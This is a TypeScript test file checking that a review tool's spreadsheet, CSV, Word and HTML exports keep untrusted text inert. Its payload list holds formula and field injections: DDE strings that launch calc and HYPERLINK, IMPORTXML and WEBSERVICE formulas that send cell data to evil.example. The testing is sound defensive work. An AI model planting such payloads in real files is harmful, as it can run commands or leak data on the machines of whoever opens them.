import { strFromU8, unzipSync } from 'fflate';
import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { loadRubric } from '../../src/adapters/setup/load-setup.js';
import { anomalyCsv } from '../../src/exports/anomaly-csv.js';
import { anomalyXlsx } from '../../src/exports/anomaly-xlsx.js';
import { fillDocx } from '../../src/exports/fill-docx.js';
import { noticesOf } from '../../src/exports/notice.js';
import { noticeFields, noticeValues } from '../../src/exports/notice-fields.js';
import { noticeTemplate, sheetTemplate } from '../../src/exports/own-templates.js';
import { scoreForm } from '../../src/exports/score-form.js';
import { scoreSheetDocx } from '../../src/exports/score-sheet-docx.js';
import { scoreSheetXlsx } from '../../src/exports/score-sheet-xlsx.js';
import { sheetFields, sheetValues } from '../../src/exports/sheet-fields.js';
import { summaryHtml } from '../../src/exports/summary-html.js';
import type { Review } from '../../src/model/review.js';
import { finding, gather, rules, sample } from './sample.js';
import { readWord } from './word.js';

/** What a spreadsheet would run, a Word field or a page would follow, if text did not stay text. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '＠SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|'/c calc'!A1",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '=DDE("cmd";"/c calc";"x")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '|calc.exe',
  '";=1+1;"',
  '","=1+1","',
  '\u200b=1+1',
  '_x003D_1+1',
  ']]><f>1+1</f>',
  '<c><f>1+1</f></c>',
  '{=1+1}',
  '{单位名称}{#问题}',
  '</w:t><w:instrText>DDEAUTO c:\\\\windows\\\\calc.exe</w:instrText>',
];

/** In every place that a unit can write into. */
const evil = (payload: string): Review => ({
  ...sample,
  source: payload,
  unit: payload,
  documents: sample.documents.map((document) => ({
    ...document,
    file: payload,
    sections: document.sections.map((section) => ({ ...section, label: null, title: payload })),
  })),
  findings: [
    finding('h1', {
      message: payload,
      evidence: [
        { quote: payload, location: { ...sample.findings[0]!.evidence[0]!.location, file: payload } },
      ],
      expected: payload,
      actual: payload,
      suggestion: payload,
    }),
  ],
  rubric: {
    ...sample.rubric,
    criteria: sample.rubric.criteria.map((criterion) => ({ ...criterion, reason: payload, band: payload })),
  },
  errors: [{ file: payload, code: 'corrupt', message: payload }],
});

const rubric = await loadRubric(null);
const formWith = (payload: string) =>
  scoreForm({
    rubric,
    unit: payload,
    year: 2024,
    lines: rubric.criteria.map(({ id, max }) => ({ id, points: max, reason: payload })),
    signed: { by: payload, day: '2025-08-01' },
  });

/** The words without what no export keeps: signs that cannot be seen, breaks of lines. */
const wordsOf = (text: string) => text.replace(/[\s\u200b]+/g, '');

/** No cell is a formula; gives the texts of all cells. */
async function cellsOf(bytes: Uint8Array): Promise<string[]> {
  for (const [name, part] of Object.entries(unzipSync(bytes))) {
    if (name.startsWith('xl/worksheets/sheet')) expect(strFromU8(part)).not.toMatch(/<f[ >/]/);
    expect(name).not.toMatch(/externalLink|connections/);
  }
  const { sheets } = await readXlsx(bytes);
  return sheets.flatMap(({ rows }) => rows.flat().map((cell) => wordsOf(String(cell ?? ''))));
}

/** No field and nothing fetched; gives the text. */
async function wordTextOf(bytes: Uint8Array): Promise<string> {
  for (const [name, part] of Object.entries(unzipSync(bytes))) {
    if (/\.xml$/.test(name) && !name.includes('footer'))
      expect(strFromU8(part)).not.toMatch(/<w:(?:instrText|fldSimple|hyperlink)\b/);
    if (name.endsWith('.rels')) expect(strFromU8(part)).not.toContain('External');
  }
  const { lines, tables } = await readWord(bytes);
  return wordsOf([...lines, ...tables.flat(2)].join(''));
}

describe.each(payloads)('%j in the papers of a unit', (payload) => {
  const words = wordsOf(payload);

  it('stays text in every workbook', async () => {
    const list = await cellsOf(await anomalyXlsx([evil(payload)], rules));
    expect(list.filter((cell) => cell === words).length).toBeGreaterThan(8);
    const sheet = await cellsOf(await scoreSheetXlsx(formWith(payload)));
    expect(sheet.filter((cell) => cell === words)).toHaveLength(rubric.criteria.length);
  });

  it('stays text in the CSV', async () => {
    const rows = parseCsv(await gather(anomalyCsv([evil(payload)], rules)), { typeInference: false });
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(17);
    for (const cell of rows[1]!.map(String)) {
      const isNumber = /^-?\d+(?:\.\d+)?$/.test(cell);
      if (!isNumber) expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@|＝＋－＠]/);
    }
    expect(wordsOf(String(rows[1]![7])).replace(/^'/, '')).toBe(words);
  });

  it('stays text in every Word file', async () => {
    const reviews = async function* () {
      yield evil(payload);
    };
    const options = { from: payload, number: payload, date: null, deadline: null };
    const { value: notice } = await noticesOf(reviews, { rules, options, standings: null }).next();
    const filled = fillDocx(await noticeTemplate(), noticeFields, noticeValues(notice!));
    const sheet = fillDocx(await sheetTemplate(), sheetFields, sheetValues(formWith(payload)));
    for (const bytes of [filled, sheet, await scoreSheetDocx(formWith(payload))])
      expect(await wordTextOf(bytes)).toContain(words);
  });

  it('stays text in the page', async () => {
    const page = await gather(summaryHtml([evil(payload)], rules));
    expect(page).not.toMatch(/<(?:f|c|w:\w+)[ >]/);
    expect(page.match(/<script/g)).toHaveLength(1);
  });
});
